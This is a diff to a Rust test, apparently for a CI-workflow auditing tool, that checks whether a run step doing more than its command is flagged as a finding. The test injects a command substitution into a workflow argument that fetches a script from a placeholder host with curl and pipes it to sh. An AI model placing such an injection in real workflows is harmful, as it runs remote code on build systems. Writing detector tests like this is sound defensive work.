@@ -575,8 +575,8 @@ fn a_workflow_file_of_50_mb_is_refused_unparsed() {
 fn a_run_step_that_runs_more_than_its_command_is_a_finding() {
     let github = copy_of_github();
     let ci = github.read("workflows/ci.yml").replacen(
-        "run: cargo xtask coverage\n",
-        "run: cargo xtask coverage --base \"$(curl -s https://x.invalid | sh)\"\n",
+        "run: cargo xtask coverage --comment\n",
+        "run: cargo xtask coverage --comment --base \"$(curl -s https://x.invalid | sh)\"\n",
         1,
     );
     github.write("workflows/ci.yml", &ci);
